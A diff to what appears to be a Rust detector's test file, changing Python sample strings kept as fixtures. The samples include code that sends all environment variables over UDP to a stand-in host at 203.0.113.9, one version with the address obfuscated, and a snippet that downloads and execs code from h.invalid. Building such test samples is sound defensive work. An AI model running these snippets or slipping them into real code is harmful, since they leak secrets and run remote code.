@@ -14,9 +14,8 @@ fn is_seen(language: Language, code: &str) -> bool {
 
 const PYTHON: &[&str] = &[
     r#"import os, socket
-A = ('.'.join(map(str, (203, 0, 113, 9))), 514)
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-s.sendto(str(dict(os.environ)).encode(), A)"#,
+s.sendto(str(dict(os.environ)).encode(), 0, ('203.0.113.9', 514))"#,
     r#"import configparser, urllib.request
 from pathlib import Path
 c = configparser.RawConfigParser()
@@ -210,6 +209,10 @@ fn what_tells_nothing_may_leave() {
 }
 
 const ACTS_OF_PYTHON: &[&str] = &[
+    r#"import os, socket
+A = ('.'.join(map(str, (203, 0, 113, 9))), 514)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.sendto(str(dict(os.environ)).encode(), A)"#,
     r#"import subprocess, sys
 u = 'https://h.invalid/x'
 subprocess.Popen([sys.executable, '-c', 'import urllib.request as r;exec(r.urlopen(%r).read())' % u])"#,
